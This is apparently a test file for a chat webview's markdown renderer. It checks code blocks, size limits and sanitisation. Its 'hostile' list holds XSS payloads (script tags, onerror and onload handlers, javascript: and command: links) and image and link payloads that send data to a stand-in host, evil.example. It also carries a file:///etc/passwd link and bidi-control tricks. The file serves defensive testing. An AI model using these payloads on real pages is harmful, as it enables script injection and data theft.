// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { renderAnswer } from '../../src/webview/chat/markdown';

function render(text: string): HTMLElement {
  const holder = document.createElement('div');
  holder.append(renderAnswer(text));
  return holder;
}

test('markdown becomes elements', () => {
  const answer = render('**bold** and `code`\n\n- one\n- two');
  expect(answer.querySelector('strong')?.textContent).toBe('bold');
  expect(answer.querySelectorAll('li')).toHaveLength(2);
});

test('a code block keeps its text, has its language, copy and insert, and is highlighted', () => {
  const answer = render('```typescript\nconst a = "<b>";\n```');
  expect(answer.querySelector('code')?.textContent).toBe('const a = "<b>";\n');
  expect(answer.querySelector('.code-language')?.textContent).toBe('typescript');
  expect(answer.querySelector('.hljs-keyword')?.textContent).toBe('const');
  expect([...answer.querySelectorAll('button')].map((button) => button.getAttribute('aria-label'))).toEqual([
    'Copy code',
    'Insert at cursor',
    'Apply to the open file…',
    'New file',
  ]);
});

test.each([
  ['very long', 'let a = 1;\n'.repeat(3_000)],
  ['one very long line', `let a = ${'('.repeat(3_000)}`],
])('code that is %s is shown whole, without colours', (_name, code) => {
  const answer = render(`\`\`\`typescript\n${code}\n\`\`\``);
  expect(answer.querySelector('code')?.textContent).toBe(`${code}\n`);
  expect(answer.querySelector('.hljs-keyword')).toBeNull();
});

test('a fence that is still open shows what there is', () => {
  expect(render('```python\nprint(1)').querySelector('code')?.textContent).toBe('print(1)');
});

const hostile: readonly (readonly [string, string])[] = [
  ['a script tag', '<script>alert(1)</script>'],
  ['an image with a handler', '<img src=x onerror=alert(1)>'],
  ['svg', '<svg onload=alert(1)><animate onbegin=alert(1) /></svg>'],
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ['a style sheet', '<style>body{display:none}</style><p style="position:fixed">x</p>'],
  ['a form', '<form action="https://evil.example"><input name=a></form>'],
  ['a javascript link', '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java\nscript:alert(1))'],
  ['a command link', '[x](command:workbench.action.quit) <command:workbench.action.quit>'],
  ['a data link', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
  ['a file link', '[x](file:///etc/passwd) [y](vscode://x/y)'],
  ['a remote image', '![secret](https://evil.example/?q=secret)'],
  ['a reference image', '![a][b]\n\n[b]: https://evil.example/x.png'],
  ['HTML in a language name', '```"><img src=x onerror=alert(1)>\nx\n```'],
  ['HTML in code', '```html\n<script>alert(1)</script>\n```'],
  ['a dom clobber', '<a id=root name=root>x</a>'],
];

describe('a hostile answer', () => {
  test.each(hostile)('%s: nothing runs and nothing loads', (_name, text) => {
    const answer = render(text);
    const forbidden =
      'script, img, svg, iframe, style, form, input, object, embed, link, meta, video, audio, [style], [id], [src]';
    expect([...answer.querySelectorAll(forbidden)]).toEqual([]);
    for (const element of answer.querySelectorAll('*')) {
      expect(element.getAttributeNames().filter((name) => name.startsWith('on'))).toEqual([]);
    }
    for (const link of answer.querySelectorAll('a'))
      expect(link.getAttribute('href')).toMatch(/^(https?|mailto):/);
  });

  test('a remote image is a link that the reader may follow', () => {
    const link = render('![the chart](https://evil.example/c.png)').querySelector('a');
    expect(link?.textContent).toBe('the chart');
    expect(link?.getAttribute('href')).toBe('https://evil.example/c.png');
  });

  test.each([
    ['stars', '*'.repeat(200_000)],
    ['brackets', '['.repeat(50_000)],
    ['backticks', '`'.repeat(100_000)],
    ['nested quotes', '> '.repeat(5_000)],
    ['a megabyte of text', 'word '.repeat(200_000)],
    ['a long line of code', `\`\`\`typescript\n${'(('.repeat(50_000)}\n\`\`\``],
  ])('%s: all of it is shown', (_name, text) => {
    expect(render(text).textContent.length).toBeGreaterThan(0);
  });
});

test.each([
  ['quotes', `${'>'.repeat(500)} after`],
  ['lists', `${Array.from({ length: 90 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')} after`],
  ['a table', `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(5_000)}|after|`],
])('%s beyond what can be laid out are shown as text, and lose no word', (_name, text) => {
  expect(render(text).textContent).toContain('after');
});

test('a table keeps its alignment without inline styles, which the page refuses', () => {
  const answer = render('| a | b |\n|:-:|--:|\n| 1 | 2 |');
  expect([...answer.querySelectorAll('td')].map((cell) => cell.className)).toEqual([
    'align-center',
    'align-right',
  ]);
  expect(answer.querySelector('[style]')).toBeNull();
});

test('an image with a refused address is its text', () => {
  expect(render('![the chart](javascript:alert(1))').querySelector('a')).toBeNull();
});

test.each([
  ['a fence', '```js\n', '\n```', 'if (a /*\u202e } */) {}'],
  ['a fence of no language', '```\n', '\n```', 'a\u2066b'],
  ['inline code', '`', '`', 'a\u202eb'],
  ['an answer that is too long for markdown', '', `\n${'word '.repeat(50_000)}`, 'a\u202eb\u202ec'],
])(
  'a character that turns the order of code is named in %s, and copied as it is',
  (_name, open, close, code) => {
    const answer = render(`${open}${code}${close}`);
    const marks = [...answer.querySelectorAll('.bidi-control')];
    expect(marks.map((mark) => mark.textContent)).toEqual(code.match(/[\u202e\u2066]/g));
    expect(marks[0]?.getAttribute('title')).toMatch(/^U\+20(2E|66)$/);
    expect(answer.textContent).toContain(code);
  },
);

test('letters without a width are named in code, the joiner of an emoji is not', () => {
  const answer = render('```\na\u200bb\u200dc \u{1f469}\u200d\u{1f4bb}\n```');
  expect([...answer.querySelectorAll('.bidi-control')].map((mark) => mark.getAttribute('title'))).toEqual([
    'U+200B',
    'U+200D',
  ]);
});

test('harmless attributes outlive the sanitiser', () => {
  const answer = render('3. three\n4. four\n\n| a |\n|---|\n| 1 |\n\n```js\nf();\n```');
  expect(answer.querySelector('ol')?.getAttribute('start')).toBe('3');
  expect(answer.querySelector('.scroll')?.getAttribute('tabindex')).toBe('0');
  expect(answer.querySelector('pre')?.getAttribute('dir')).toBe('ltr');
  expect(answer.querySelector('button')?.getAttribute('type')).toBe('button');
});
